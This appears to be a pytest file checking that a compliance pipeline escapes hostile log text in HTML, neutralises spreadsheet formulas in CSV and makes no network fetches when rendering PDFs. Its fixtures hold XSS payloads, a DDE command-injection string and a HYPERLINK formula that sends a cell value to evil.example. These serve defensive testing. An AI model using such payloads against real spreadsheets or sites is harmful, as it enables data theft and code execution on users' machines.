"""Log text is data, never markup or formulas: hostile flag text is escaped in every HTML output,
nothing is fetched from the network, and CSV cells a spreadsheet would run are neutralised."""
from __future__ import annotations

import csv
import re
import http.server
import threading

import duckdb

from compliance import pipeline
from compliance.reports.pdf import write_pdf
from report_helpers import flag_row
from report_reading import read_html

MONTH = "2016-03"
SCRIPT = "<script>alert('pwned')</script>"
IMAGE = '<img src="http://127.0.0.1:9/track.png">'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE = [
    flag_row("f-hostile-1", MONTH, summary=f"ran {SCRIPT}{IMAGE}", subject_id="+cmd|' /C calc'!A0",
             person_id="@SUM(1+1)", evidence={
                 "reason": "<b>not bold</b>", "statement": "SELECT * FROM persons; <iframe src=//evil.example>",
                 "search_terms": FORMULA, "policy_citation": "-2+3",
                 "source_lines": [{"file": "landing/<svg onload=alert(1)>.csv", "line": 7}]}),
    flag_row("f-hostile-2", MONTH, rule_id="<script>rule</script>", category="<script>cat</script>",
             summary=FORMULA, subject_id="D2"),
]


def _urls_in(reading) -> list[str]:
    return [value for tag, attrs in reading.tags for name, value in attrs.items()
            if name in ("src", "href", "xlink:href", "action", "data") and value
            and not value.startswith(("#", "data:"))]


def test_hostile_text_is_escaped_and_nothing_is_fetched(tiny_home):
    reports = pipeline.build_reports(tiny_home(flags=HOSTILE), MONTH)
    for key in ("ig_html", "committee_html"):
        text = reports.files[key].read_text(encoding="utf-8")
        reading = read_html(reports.files[key])
        tags = {tag for tag, _ in reading.tags}
        assert not tags & {"script", "iframe", "img", "object", "embed", "link", "b"}, key
        assert _urls_in(reading) == [], key
        assert not re.search(r"url\((?!#)", text) and "@import" not in text  # url(#id): SVG-local
        assert "Content-Security-Policy" in text and "default-src 'none'" in text
        assert not any(name.startswith("on") for _, attrs in reading.tags for name in attrs), key
    ig = reports.ig_html.read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(" in ig and "&lt;iframe src=//evil.example&gt;" in ig
    assert "&lt;svg onload=alert(1)&gt;" in ig


def test_csv_neutralises_formulas_and_parquet_keeps_values(tiny_home):
    reports = pipeline.build_reports(tiny_home(flags=HOSTILE), MONTH)
    with open(reports.files["flags_csv"], encoding="utf-8", newline="") as fh:
        rows = {row["flag_id"]: row for row in csv.DictReader(fh)}
    first, second = rows["f-hostile-1"], rows["f-hostile-2"]
    assert first["subject_id"] == "'+cmd|' /C calc'!A0"
    assert first["person_id"] == "'@SUM(1+1)"
    assert first["policy_citation"] == "'-2+3"
    assert second["summary"] == "'" + FORMULA
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    parquet = duckdb.connect().execute(
        "SELECT flag_id, subject_id, summary FROM read_parquet(?) ORDER BY flag_id",
        [str(reports.files["flags_parquet"])]).fetchall()
    assert parquet == [("f-hostile-1", "+cmd|' /C calc'!A0", f"ran {SCRIPT}{IMAGE}"),
                       ("f-hostile-2", "D2", FORMULA)]


def test_pdf_renderer_fetches_nothing(tmp_path):
    requests = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            requests.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        port = server.server_address[1]
        html = (f'<html lang="en"><head><title>t</title><link rel="stylesheet" href="http://127.0.0.1:{port}/s.css">'
                f'<style>@import url("http://127.0.0.1:{port}/i.css");</style></head><body>'
                f'<img src="http://127.0.0.1:{port}/x.png" alt="x"><p>text</p></body></html>')
        assert write_pdf(html, tmp_path / "t.pdf") == 1
    finally:
        server.shutdown()
    assert requests == []
